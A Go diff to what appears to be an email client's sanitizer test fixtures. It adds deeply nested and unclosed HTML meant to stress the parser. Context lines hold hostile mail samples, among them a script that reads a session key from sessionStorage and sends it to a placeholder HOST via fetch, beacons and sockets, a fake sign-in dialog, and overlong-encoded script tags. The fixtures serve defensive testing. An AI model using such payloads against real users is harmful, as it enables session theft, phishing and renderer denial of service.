@@ -59,7 +59,15 @@ func hostileMail() []hostile {
 		{name: "requests", html: `<script>fetch("http://HOST/f"); new Image().src = "http://HOST/i"; navigator.sendBeacon("http://HOST/b"); new WebSocket("ws://HOST/w"); new EventSource("http://HOST/e"); fetch("/v1/me", {headers: {Authorization: "Bearer " + sessionStorage["mailkin.key"]}}).then(r => r.text()).then(t => fetch("http://HOST/" + t))</script>`},
 		{name: "popover and dialog", html: `<dialog open>Sign in again: <input></dialog><div popover="manual" ontoggle="harm()">x</div><button popovertarget="p" autofocus>y</button>`},
 		{name: "no tag is closed", html: `<p><b><i><table><tr><td><a href="https://x.example"><div><img src="http://HOST/n.png"` + strings.Repeat("<div>", 200)},
-		{name: "nested ten thousand deep", html: strings.Repeat("<div><blockquote><b>", 10_000) + "x"},
+		{name: "nested ten thousand deep", html: strings.Repeat("<div><blockquote><b>", 10_000) + "x", busy: true},
+		{name: "ends that close nothing", html: strings.Repeat("<div></q>", 5_000) + "x", busy: true},
+		{name: "ends in comments", html: strings.Repeat("<div><!-- </div> -->", 5_000) + "x", busy: true},
+		{name: "ends in attributes", html: strings.Repeat(`<div title="</div>">`, 5_000) + "x", busy: true},
+		{name: "lists in lists without an end", html: strings.Repeat("<dd><li>", 5_000) + "x", busy: true},
+		{name: "letters that go on in every paragraph", html: "<p>" + fonts(200) + strings.Repeat("<p>x", 1_000), busy: true},
+		{name: "letters that go on, and seem to end", html: "<p>" + strings.ReplaceAll(fonts(200), ">", ` t="</font>">`) + strings.Repeat("<p>x", 1_000), busy: true},
+		{name: "letters that go on, after much text", html: strings.Repeat("x ", 200_000) + "<table><p>" + fonts(200) + strings.Repeat("<p>x", 1_000), busy: true},
+		{name: "link cut inside a letter", html: `<a href="https://x.example/` + strings.Repeat("x", 7_999-len("https://x.example/")) + `😀">x</a>`},
 		{name: "one megabyte", html: "<table>" + strings.Repeat(`<tr><td style="padding:4px">A row of a very long table that goes on and on</td><td><a href="https://x.example/1">link</a></td></tr>`, 7_000) + "</table>"},
 		{name: "one word of a megabyte", html: "<p>" + strings.Repeat("x", 900_000)},
 		{name: "many pictures tags", html: strings.Repeat("<img", 100_000)},
@@ -68,6 +76,15 @@ func hostileMail() []hostile {
 		{name: "overlong and broken characters", html: "\xc0\xbcscript\xc0\xbeharm()\xc0\xbc/script\xc0\xbe \xff\xfe <p>\xed\xa0\x80</p>"},
 	}
 	return append(rows, hostileText()...)
+}
+
+// fonts are elements that stay open, each unlike the others.
+func fonts(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "<font a%d>", i)
+	}
+	return b.String()
 }
 
 // hostileText is mail whose harm is outside its HTML: names, subjects, attachments, text.
